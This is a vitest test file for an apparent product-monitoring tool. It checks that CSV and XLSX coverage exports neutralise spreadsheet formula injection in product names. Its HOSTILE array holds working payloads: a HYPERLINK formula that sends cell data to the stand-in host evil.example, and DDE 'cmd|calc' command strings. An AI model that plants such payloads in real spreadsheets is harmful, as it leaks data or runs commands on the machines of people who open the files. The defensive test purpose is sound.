import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { computeCoverage, coverageCsv, coverageXlsx, importProducts, openStore } from '@ocop-monitor/monitor';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|calc',
  '@SUM(1+9)*cmd|calc',
];

/** The sample registry with its product names replaced by formula payloads, as a hostile import would. */
function hostileRegistry(dir: string): string {
  const [header, ...rows] = readFileSync(new URL('../examples/san-pham-mau.csv', import.meta.url), 'utf8')
    .trim()
    .split('\n');
  const quote = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const changed = rows.slice(0, HOSTILE.length).map((row, i) => {
    const cells = row.split(',');
    cells[2] = quote(HOSTILE[i] ?? '');
    return cells.join(',');
  });
  const file = join(dir, 'hostile.csv');
  writeFileSync(file, [header, ...changed].join('\n'));
  return file;
}

describe('exports department staff open in a spreadsheet', () => {
  it('hostile product names come out as text in CSV and XLSX; numbers stay numbers', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ocop-export-'));
    const store = await openStore({ dataDir: 'memory://' });
    try {
      const imported = await importProducts(store.db, hostileRegistry(dir));
      expect(imported.created).toBe(HOSTILE.length);
      const report = await computeCoverage(store.db, {
        date: '2026-06-01',
        asOf: new Date('2026-06-01T23:59:59+07:00'),
        freshnessHours: 48,
        countedMarketplaces: ['voso'],
      });
      // Stored as imported (the sample's expired product is not in the report, the others are).
      const inReport = report.gap.map((p) => p.name);
      expect(inReport.length).toBeGreaterThanOrEqual(3);
      expect(HOSTILE).toEqual(expect.arrayContaining(inReport));

      const csv = coverageCsv(report);
      for (const name of inReport) expect(csv).toContain(`'${name.slice(0, 8).replaceAll('"', '""')}`);
      // No field, quoted or not, begins a formula.
      expect(csv).not.toMatch(/(^|,)"?[=+\-@]/mu);

      const book = new ExcelJS.Workbook();
      await book.xlsx.load((await coverageXlsx(report)) as unknown as ArrayBuffer);
      const gap = book.getWorksheet('gap');
      const names = gap?.getColumn(3).values.slice(2) ?? [];
      expect(names.sort()).toEqual(inReport.map((name) => `'${name}`).sort());
      const summary = book.getWorksheet('Tong hop');
      expect(summary?.getCell('B5').value).toBe(report.denominator); // a number, untouched
      expect(typeof summary?.getCell('B6').value).toBe('number');
    } finally {
      await store.close();
    }
  });
});
